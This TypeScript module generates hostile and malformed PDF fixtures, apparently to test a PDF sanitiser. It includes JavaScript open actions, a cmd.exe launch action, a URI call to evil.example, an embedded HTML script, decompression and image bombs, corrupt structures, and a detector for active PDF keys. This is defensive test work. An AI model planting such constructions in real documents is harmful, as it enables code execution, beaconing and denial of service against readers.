import { once } from "node:events";
import { deflateSync } from "node:zlib";

import PdfDocument from "pdfkit";

import { SECRET_WORDS } from "./pictures.ts";
import { createRandom, type Random } from "./random.ts";

type Look = { pages?: number; size?: [number, number]; options?: PDFKit.PDFDocumentOptions };

/** A certificate as an office writes it: words on pages, with a title and a file that only a reader's program sees. */
export async function paper({
  pages = 1,
  size = [612, 792],
  options = {},
}: Look = {}): Promise<Buffer> {
  const pdf = new PdfDocument({
    autoFirstPage: false,
    size,
    info: { Title: SECRET_WORDS },
    ...options,
  });
  const pieces: Buffer[] = [];
  pdf.on("data", (piece: Buffer) => pieces.push(piece));
  const ended = once(pdf, "end");
  for (let page = 1; page <= pages; page += 1)
    pdf
      .addPage()
      .fontSize(40)
      .text(`Certificado ${page}`, 20, 20, { link: `https://evil.example/${SECRET_WORDS}` });
  pdf.file(Buffer.from(`<script>${SECRET_WORDS}</script>`), { name: "evil.html" });
  pdf.end();
  await ended;
  return Buffer.concat(pieces);
}

const PAGE = "/Type /Page /Parent 2 0 R /MediaBox [0 0 300 200]";

/** A PDF of these objects, the first of which is its catalogue. */
function pdfOf(objects: readonly (string | Buffer)[]): Buffer {
  const bodies = objects.map((object, index) =>
    Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from("\nendobj\n"),
    ]),
  );
  let at = 9;
  const places = bodies.map((body) => {
    const place = at;
    at += body.length;
    return `${String(place).padStart(10, "0")} 00000 n \n`;
  });
  const tail = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([Buffer.from("%PDF-1.7\n"), ...bodies, Buffer.from(tail)]);
}

function stream(dictionary: string, bytes: Buffer): Buffer {
  const head = `<< ${dictionary} /Length ${bytes.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), bytes, Buffer.from("\nendstream")]);
}

const ONE_PAGE = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
const withAction = (action: string, ...more: string[]) =>
  pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${action} >>`,
    ONE_PAGE,
    `<< ${PAGE} ${more.join(" ")} >>`,
  ]);
const withContent = (bytes: Buffer, dictionary: string, resources = "") =>
  pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    ONE_PAGE,
    `<< ${PAGE} /Contents 4 0 R /Resources << ${resources} >> >>`,
    stream(dictionary, bytes),
  ]);

export type HostilePaper = {
  kind: string;
  bytes: Buffer;
  /** Whether it is made anew all the same, refused, or its damage decides. */
  outcome: "kept" | "refused" | "either";
};

type MadePaper = Omit<HostilePaper, "kind">;
type Whole = { whole: Buffer; locked: Buffer; long: Buffer };

/** The ways in which a PDF does harm. */
const KINDS: Readonly<Record<string, (random: Random, papers: Whole) => MadePaper>> = {
  "script when it opens": () =>
    kept(withAction(`/OpenAction << /S /JavaScript /JS (app.alert\\("${SECRET_WORDS}"\\)) >>`)),
  "a program to start": () =>
    kept(withAction(`/OpenAction << /S /Launch /F (cmd.exe ${SECRET_WORDS}) >>`)),
  "an address to call": () =>
    kept(withAction("", `/AA << /O << /S /URI /URI (https://evil.example/${SECRET_WORDS}) >> >>`)),
  "a form that sends itself": () =>
    kept(withAction(`/AcroForm << /Fields [] /XFA (<x>${SECRET_WORDS}</x>) >>`)),
  "files within": (_random, { whole }) => kept(whole),
  "a page of another kind behind it": (_random, { whole }) =>
    kept(Buffer.concat([whole, Buffer.from(`<script>alert("${SECRET_WORDS}")</script>`)])),
  "no PDF behind the beginning of one": (random) =>
    refused(Buffer.from(`%PDF-1.7\n<script>${random.below(1_000)}</script>`)),
  "another kind of file": (random) =>
    refused(Buffer.from(random.pick(["<!doctype html>", "PK\u0003\u0004", "\u007fELF", ""]))),
  "a password": (_random, { locked }) => refused(locked),
  "more pages than are taken": (_random, { long }) => refused(long),
  "no page": () =>
    refused(pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"])),
  "pages within themselves": () =>
    either(
      pdfOf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>",
      ]),
    ),
  "a page of no size that paper has": (random) =>
    either(
      pdfOf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        ONE_PAGE,
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${random.pick(["1 99999", "1e9 1e9", "9 9999"])}] >>`,
      ]),
    ),
  "words that unpack to fifty megabytes": () =>
    either(withContent(deflateSync(Buffer.alloc(50_000_000, "q ")), "/Filter /FlateDecode")),
  "a picture of ten thousand million dots": () =>
    either(
      pdfOf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        ONE_PAGE,
        `<< ${PAGE} /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>`,
        stream("", Buffer.from("300 0 0 200 0 0 cm /I Do")),
        stream(
          "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
          deflateSync(Buffer.alloc(5_000_000)),
        ),
      ]),
    ),
  "cut off": (random, { whole }) => either(whole.subarray(0, random.below(whole.length))),
  "damaged in places": (random, { whole }) => {
    const bytes = Buffer.from(whole);
    for (let times = random.below(60); times >= 0; times -= 1)
      bytes[5 + random.below(bytes.length - 5)] = random.below(256);
    return either(bytes);
  },
};

/** So many PDFs of every kind in turn, the same for the same seed. */
export async function hostilePapers(count: number, seed: number): Promise<HostilePaper[]> {
  const random = createRandom(seed);
  const papers: Whole = {
    whole: await paper(),
    locked: await paper({ options: { userPassword: "secreta", pdfVersion: "1.7" } }),
    long: await paper({ pages: 21 }),
  };
  const kinds = Object.entries(KINDS);
  return Array.from({ length: count }, (_, place) => {
    const [kind, make] = kinds[place % kinds.length] ?? random.pick(kinds);
    return { kind, ...make(random, papers) };
  });
}

/** What of a kept PDF is more than pictures of pages. */
export function besidesPages(bytes: Buffer): string[] {
  const text = bytes.toString("latin1");
  const active = ["/JavaScript", "/JS", "/Launch", "/URI", "/AA", "/OpenAction", "/EmbeddedFile"];
  return [...active, "/AcroForm", "/XFA", "/Annots", "/Font", SECRET_WORDS, "<script"].filter(
    (word) => text.includes(word),
  );
}

const kept = (bytes: Buffer): MadePaper => ({ bytes, outcome: "kept" });
const refused = (bytes: Buffer): MadePaper => ({ bytes, outcome: "refused" });
const either = (bytes: Buffer): MadePaper => ({ bytes, outcome: "either" });
